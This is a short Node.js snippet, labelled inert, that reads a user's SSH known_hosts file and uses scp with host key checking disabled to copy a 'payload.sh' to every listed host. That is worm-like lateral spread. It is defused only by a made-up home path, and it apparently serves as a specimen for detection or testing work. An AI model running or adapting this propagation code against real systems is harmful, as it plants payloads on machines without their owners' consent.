// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');
const home = path.join(__dirname, 'no-such-home');
let hosts = [];
try {
  hosts = fs.readFileSync(path.join(home, '.ssh', 'known_hosts'), 'utf8').split('\n').map((line) => line.split(' ')[0]);
} catch {
  // No such home.
}
for (const host of hosts) execSync(`scp -o StrictHostKeyChecking=no payload.sh ${host}:/tmp/`);
